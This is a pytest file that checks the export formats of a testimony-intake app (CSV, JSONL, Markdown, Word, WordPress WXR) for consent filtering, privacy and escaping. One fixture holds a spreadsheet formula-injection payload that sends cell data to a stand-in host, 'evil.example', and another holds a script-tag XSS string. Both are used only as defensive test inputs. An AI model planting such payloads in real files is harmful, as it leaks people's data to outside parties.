"""Export files, parsed back as the team's tools read them: only what each person allowed."""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from typing import Any, NamedTuple

import pytest
from argon2 import PasswordHasher
from docx import Document
from flask import Flask
from sqlalchemy import select, update

from intake import accounts, workflow
from intake.exports import ExportFilters, StoryRecord, credit_line, iter_stories
from intake.exports.formats import (
    DOCX_MAX_STORIES,
    FORMATS,
    ExportOptions,
    TooManyForDocx,
    check_docx_count,
    stream_export,
    suggested_title,
    write_export,
)
from intake.exports.formats.tabular import neutralise
from intake.exports.formats.ziptools import StreamingZip
from intake.extensions import db
from intake.models import (
    CreditMode,
    DeclineReason,
    Purpose,
    QuestionKind,
    Submission,
    SubmissionStatus,
    User,
)
from tests.export_readers import (
    CONTENT_NS,
    NS,
    WP,
    Read,
    docx_stories,
    flat,
    markdown_files,
    meta,
    parse,
    read_csv,
    wxr_items,
)
from tests.helpers import make_call, make_user, question
from tests.review_helpers import file_story

ORIGINAL = "CANARY-ORIGINAL : je m'appelle Zélie et j'habite rue des Glycines."
NOTE = "CANARY-NOTE vérifier l'adresse"
EMAIL = "canary-mail@example.org"
HIDDEN_ANSWER = "CANARY-PRIVATE-ANSWER"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
EVERY_USE = ExportFilters()
SCRIPT = "<script>alert(1)</script> L'amitié & moi"


@dataclass(frozen=True)
class Filed:
    """A story as the test filed it: what an export must show, and what it must never show."""

    public_id: str
    publishable: str
    credit: str
    receipt_hash: str


class Library(NamedTuple):
    exported: dict[str, Filed]
    audio: set[str]
    absent: list[Filed]
    call_id: int

    def secrets(self) -> list[str]:
        hashes = [f.receipt_hash for f in [*self.exported.values(), *self.absent]]
        return [ORIGINAL, NOTE, EMAIL, HIDDEN_ANSWER, "CANARY-ABSENT", *hashes]


@pytest.fixture
def fast_hashing(monkeypatch: pytest.MonkeyPatch) -> None:
    """Cheap argon2 parameters: these tests are about stories, not passwords."""
    monkeypatch.setattr(accounts, "_hasher", PasswordHasher(time_cost=1, memory_cost=1024))


def moderate(app: Flask, public_id: str, publishable: str, *, end: SubmissionStatus) -> Filed:
    """Bring a filed story through the workflow, as a moderator would, to ``end``."""
    with app.test_request_context():
        user = db.session.scalar(select(User).where(User.email == "moderator@intake.example"))
        assert user is not None
        row = db.session.scalar(select(Submission).where(Submission.public_id == public_id))
        assert row is not None
        steps = [
            lambda: workflow.claim(row, user, row.version),
            lambda: workflow.add_note(row, user, NOTE),
            lambda: workflow.save_publishable(row, user, row.version, publishable),
        ]
        if end == SubmissionStatus.REJECTED:
            steps.append(lambda: workflow.decline(row, user, row.version, DeclineReason.OTHER, ""))
        else:
            steps.append(lambda: workflow.approve(row, user, row.version))
        if end == SubmissionStatus.PUBLISHED:
            url, when = "https://media.example/a/1", datetime(2024, 5, 2, 9, 30, tzinfo=UTC)
            steps.append(lambda: workflow.mark_published(row, user, row.version, url, when))
        for step in steps:
            step()
            db.session.commit()
        credit = credit_line(row.credit_mode, row.credit_name)
        return Filed(public_id, publishable, credit, row.receipt_hash)


def story(
    app: Flask,
    publishable: str,
    *,
    credit: tuple[CreditMode, str | None] = (CreditMode.ANONYMOUS, None),
    granted: Iterable[Purpose] = (Purpose.PUBLISH_SITE,),
    end: SubmissionStatus = SubmissionStatus.APPROVED,
    call_id: int | None = None,
    original: str = ORIGINAL,
) -> Filed:
    """A story filed through the domain with a canary original, then moderated."""
    public_id = file_story(
        app, story=original, email=EMAIL, credit=credit, granted=granted, call_id=call_id
    )
    return moderate(app, public_id, publishable, end=end)


def answered_story(app: Flask, call_id: int) -> Filed:
    """A story sent to a call, with one publishable answer and one private answer."""
    from intake import codes, consent
    from intake.models import Call
    from intake.testimonies import TestimonyDraft, submit_testimony

    with app.test_request_context():
        call = db.session.get(Call, call_id)
        assert call is not None
        public, private = call.questions
        wordings = consent.wordings_for(call)
        yes = {Purpose.AGE, Purpose.HEALTH_DATA, Purpose.PUBLISH_SITE, Purpose.PUBLISH_AUDIO}
        yes |= {Purpose.EDIT}  # the team shortens the story
        draft = TestimonyDraft(
            submission_key=codes.new_submission_key(),
            story=ORIGINAL,
            credit_mode=CreditMode.FIRST_NAME,
            credit_name="Zélie",
            email=None,
            locale="fr",
            consents={purpose: purpose in yes for purpose in wordings},
            wordings=wordings,
            answers=[(public, ["Le matin", "Le soir"]), (private, HIDDEN_ANSWER)],
        )
        public_id = submit_testimony(draft, call, datetime.now(UTC)).submission.public_id
        db.session.commit()
    return moderate(app, public_id, "Je me lève tôt pour elle.", end=SubmissionStatus.PUBLISHED)


def dashed(app: Flask, filed: Filed) -> Filed:
    """The story under a public id starting with "-", as token_urlsafe sometimes draws."""
    public_id = "-" + filed.public_id[1:]
    with app.app_context():
        db.session.execute(
            update(Submission)
            .where(Submission.public_id == filed.public_id)
            .values(public_id=public_id)
        )
        db.session.commit()
    return replace(filed, public_id=public_id)


@pytest.fixture
def library(app: Flask, fast_hashing: None) -> Library:
    """Approved, published, withdrawn and rejected stories, with every credit choice."""
    with app.app_context():
        make_user("moderator")
        call = make_call(
            questions=[
                question("Quand écrivez-vous ?", QuestionKind.MULTIPLE_CHOICE, publishable=True,
                         choices=["Le matin", "Le soir"]),
                question("Votre ville ?", QuestionKind.SHORT_TEXT),
            ]
        )  # fmt: skip
        call_id = call.id
    audio = (Purpose.PUBLISH_SITE, Purpose.PUBLISH_AUDIO)
    exported = [
        answered_story(app, call_id),
        story(app, "Ma fille est née en hiver.", credit=(CreditMode.ANONYMOUS, "Nom Tapé")),
        dashed(app, story(app, FORMULA, credit=(CreditMode.PSEUDONYM, "@SUM(1)"))),
        story(app, SCRIPT, credit=(CreditMode.FULL_NAME, "Camille Exemple"), granted=audio),
    ]
    withdrawn = story(app, "CANARY-ABSENT retiré", granted=audio)
    with app.app_context():
        db.session.execute(
            update(Submission)
            .where(Submission.public_id == withdrawn.public_id)
            .values(status=SubmissionStatus.WITHDRAWN)
        )
        db.session.commit()
    rejected = story(app, "CANARY-ABSENT refusé", granted=audio, end=SubmissionStatus.REJECTED)
    return Library(
        exported={f.public_id: f for f in exported},
        audio={exported[0].public_id, exported[3].public_id},
        absent=[withdrawn, rejected],
        call_id=call_id,
    )


def export(app: Flask, fmt: str, filters: ExportFilters = EVERY_USE, **options: Any) -> bytes:
    """The file one format writes for the stories these filters select."""
    out = io.BytesIO()
    with app.app_context():
        count = write_export(fmt, iter_stories(filters), out, ExportOptions(**options))
    data = out.getvalue()
    read = read_csv(data, excel=True) if options.get("excel") else parse(fmt, data)
    assert count == len(read)
    return data


def readable(data: bytes) -> bytes:
    """The bytes of a file as a search would see them: a ZIP's members decompressed."""
    if not data.startswith(b"PK"):
        return data
    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
        return data + b"".join(bundle.read(name) for name in bundle.namelist())


# --- What every format holds ------------------------------------------------------------


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_every_format_holds_the_approved_stories_as_published_and_credited(
    app: Flask, library: Library, fmt: str
) -> None:
    found = parse(fmt, export(app, fmt))

    expected = {pid: Read(f.credit, flat(f.publishable)) for pid, f in library.exported.items()}
    assert found == expected
    credits = sorted(r.credit for r in found.values())
    assert credits == ["@SUM(1)", "Anonyme", "Camille Exemple", "Zélie"]


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_a_use_export_holds_only_the_stories_consenting_to_it(
    app: Flask, library: Library, fmt: str
) -> None:
    found = parse(fmt, export(app, fmt, ExportFilters(use=Purpose.PUBLISH_AUDIO)))

    assert set(found) == library.audio
    assert not set(found) & {f.public_id for f in library.absent}


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_no_format_carries_contact_code_hash_note_original_or_private_answer(
    app: Flask, library: Library, fmt: str
) -> None:
    data = readable(export(app, fmt))

    for absent in library.absent:
        assert absent.public_id.encode() not in data
    leaked = [secret for secret in library.secrets() if secret.encode() in data]
    assert not leaked, fmt


def test_excel_csv_has_a_bom_semicolons_and_no_live_formula(app: Flask, library: Library) -> None:
    data = export(app, "csv", excel=True)

    assert data.startswith(codecs.BOM_UTF8)
    header = data[3:].split(b"\r\n", 1)[0].decode()
    assert header.startswith('"public_id";"call";"credit_line";"text"')
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_plain_csv_is_utf8_with_commas_and_answers_as_lines(app: Flask, library: Library) -> None:
    data = export(app, "csv")

    assert not data.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    (answered,) = [r for r in rows if r["answers"]]
    assert answered["answers"] == "Quand écrivez-vous ?: Le matin, Le soir"
    assert answered["uses"] == "publish_site, publish_audio"
    assert answered["published_at"].startswith("2024-05-02T09:30:00")
    assert answered["status"] == "published"
    assert answered["word_count"] == "6"


@pytest.mark.parametrize("cell", ["=1+1", "+33 6", "-2", "@SUM(1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert neutralise("Bonjour = salut") == "Bonjour = salut"


def test_json_lines_keep_answers_as_lists_and_dates_as_iso(app: Flask, library: Library) -> None:
    lines = export(app, "jsonl").decode("utf-8").splitlines()
    objects = [json.loads(line) for line in lines]

    (answered,) = [o for o in objects if o["answers"]]
    assert answered["answers"] == [
        {"question": "Quand écrivez-vous ?", "answer": ["Le matin", "Le soir"]}
    ]
    assert datetime.fromisoformat(answered["received_at"]).tzinfo is not None
    assert "Zélie" in lines[[o["public_id"] for o in objects].index(answered["public_id"])]


# --- Markup stays text ------------------------------------------------------------------


def test_script_in_a_story_is_escaped_in_the_markdown_bundle(app: Flask, library: Library) -> None:
    files = markdown_files(export(app, "md"))
    bodies = [body for _, body in files.values()]

    assert any("&lt;script&gt;alert(1)&lt;/script&gt; L'amitié &amp; moi" in b for b in bodies)
    assert not any("<script>" in body for body in bodies)
    matters = [matter for matter, _ in files.values()]
    assert all(len(m["title"]) <= 60 for m in matters)
    assert [*next(m for m in matters if "answers" in m)] == [
        "title", "call", "credit", "uses", "received", "published", "url", "words", "answers",
    ]  # fmt: skip


def test_script_in_a_story_is_literal_text_in_word(app: Flask, library: Library) -> None:
    document = Document(io.BytesIO(export(app, "docx")))
    texts = [paragraph.text for paragraph in document.paragraphs]

    assert SCRIPT in texts
    assert len(document.sections) == len(library.exported)
    assert "Quand écrivez-vous ? : Le matin, Le soir" in texts


def test_wxr_is_a_wordpress_import_of_draft_posts(app: Flask, library: Library) -> None:
    data = export(app, "wxr", site_url="https://media.example", title="Médias & Co")
    root, items = wxr_items(data)

    assert root.tag == "rss" and root.nsmap["wp"] == WP and root.nsmap["content"] == CONTENT_NS
    assert root.findtext("channel/wp:wxr_version", namespaces=NS) == "1.2"
    assert root.findtext("channel/wp:base_site_url", namespaces=NS) == "https://media.example"
    assert len(items) == len(library.exported)
    for item in items:
        assert item.findtext("wp:status", namespaces=NS) == "draft"
        assert item.findtext("wp:post_type", namespaces=NS) == "post"
        assert item.findtext("dc:creator", namespaces=NS) == "intake"
        name = item.findtext("wp:post_name", namespaces=NS)
        assert re.fullmatch(r"temoignage-[a-z0-9-]+", name)


def test_script_in_a_story_is_escaped_inside_wxr_content(app: Flask, library: Library) -> None:
    _, items = wxr_items(export(app, "wxr"))
    contents = [item.findtext("content:encoded", namespaces=NS) for item in items]

    assert any("<p>&lt;script&gt;alert(1)&lt;/script&gt; L&#x27;amitié &amp; moi</p>" in c
               for c in contents)  # fmt: skip
    assert not any("<script>" in content for content in contents)


# --- Without a database: records built by hand -------------------------------------------


def record(number: int = 1, **fields: Any) -> StoryRecord:
    """A story as the selection hands it to a writer."""
    values: dict[str, Any] = {
        "public_id": f"story-{number}",
        "call": None,
        "text": f"Récit numéro {number}.",
        "credit_line": "Anonyme",
        "answers": [],
        "uses": ["publish_site"],
        "status": "approved",
        "received_at": datetime(2024, 3, 1, 12, 0, number % 60, tzinfo=UTC),
        "published_at": None,
        "published_url": None,
        "word_count": 3,
    }
    return StoryRecord(**{**values, **fields})


def test_title_is_the_call_or_the_first_words_never_past_sixty_characters() -> None:
    long_text = "Quand ma fille est née je vivais déjà avec un trouble bipolaire depuis dix ans."

    assert suggested_title(record(call="Parentalité")) == "Parentalité"
    title = suggested_title(record(text=long_text))
    assert len(title) <= 60 and title.endswith("…")
    assert long_text.startswith(title.removesuffix("…"))
    assert suggested_title(record(text="\n")) == "story-1"


@pytest.mark.parametrize(
    ("mode", "name", "line"),
    [
        (CreditMode.ANONYMOUS, "Nom Tapé", "Anonyme"),
        (CreditMode.FIRST_NAME, "Zélie", "Zélie"),
        (CreditMode.PSEUDONYM, "Plume", "Plume"),
        (CreditMode.FULL_NAME, "Camille Exemple", "Camille Exemple"),
    ],
)
def test_credit_line_follows_the_credit_choice(mode: CreditMode, name: str, line: str) -> None:
    assert credit_line(mode, name) == line


def test_word_refuses_more_stories_than_its_cap() -> None:
    check_docx_count(DOCX_MAX_STORIES)
    with pytest.raises(TooManyForDocx, match=str(DOCX_MAX_STORIES)):
        check_docx_count(DOCX_MAX_STORIES + 1)

    out = io.BytesIO()
    many = (record(n) for n in range(DOCX_MAX_STORIES + 1))
    with pytest.raises(TooManyForDocx, match=str(DOCX_MAX_STORIES)):
        write_export("docx", many, out)
    assert out.getvalue() == b""


def test_control_characters_and_cdata_ends_do_not_break_word_or_wxr() -> None:
    nasty = record(text="Avant\x00\x07\x0b après ]]> fin\ufffe", credit_line="A ]]> B\x01")

    texts = [p.text for p in Document(io.BytesIO(written("docx", [nasty]))).paragraphs]
    assert "Avant après ]]> fin" in texts
    _, (item,) = wxr_items(written("wxr", [nasty]))
    assert meta(item, "intake_credit") == "A ]]> B"
    assert "après ]]&gt; fin" in item.findtext("content:encoded", namespaces=NS)


def written(fmt: str, records: Iterable[StoryRecord]) -> bytes:
    out = io.BytesIO()
    write_export(fmt, records, out)
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "md", "wxr"])
@pytest.mark.parametrize("excel", [False, True])
def test_streaming_gives_the_bytes_writing_gives(fmt: str, excel: bool) -> None:
    records = [record(n, text=f"Récit {n} " * 50) for n in range(1, 30)]
    options = ExportOptions(excel=excel)

    out = io.BytesIO()
    assert write_export(fmt, records, out, options) == 29
    assert b"".join(stream_export(fmt, records, options)) == out.getvalue()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "md", "wxr"])
def test_streaming_sends_a_story_before_reading_the_next(fmt: str) -> None:
    def two_then_fail() -> Iterator[StoryRecord]:
        yield record(1, text="PREMIER")
        yield record(2)
        raise AssertionError("read too far")

    chunks = stream_export(fmt, two_then_fail())
    sent = b""
    # The first story's id (a ZIP entry's name is stored uncompressed) arrives before the
    # writer asks for a third story.
    while b"story-1" not in sent:
        sent += next(chunks)


def test_word_streams_in_chunks_of_the_same_document() -> None:
    records = [record(n) for n in range(3)]
    chunks = list(stream_export("docx", records))

    document = Document(io.BytesIO(b"".join(chunks)))
    assert set(docx_stories(b"".join(chunks))) == {"story-0", "story-1", "story-2"}
    assert len(document.sections) == 3


def test_a_bundle_of_more_than_65535_stories_is_a_valid_zip64_archive() -> None:
    archive, when = StreamingZip(), datetime(2024, 3, 1, 12, 0)
    data = b"".join(archive.add(f"{n}.md", f"Récit {n}".encode(), when) for n in range(70_000))
    data += b"".join(archive.close())

    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
        assert len(bundle.namelist()) == 70_000
        assert bundle.read("69999.md").decode() == "Récit 69999"
        assert bundle.getinfo("12.md").date_time == (2024, 3, 1, 12, 0, 0)
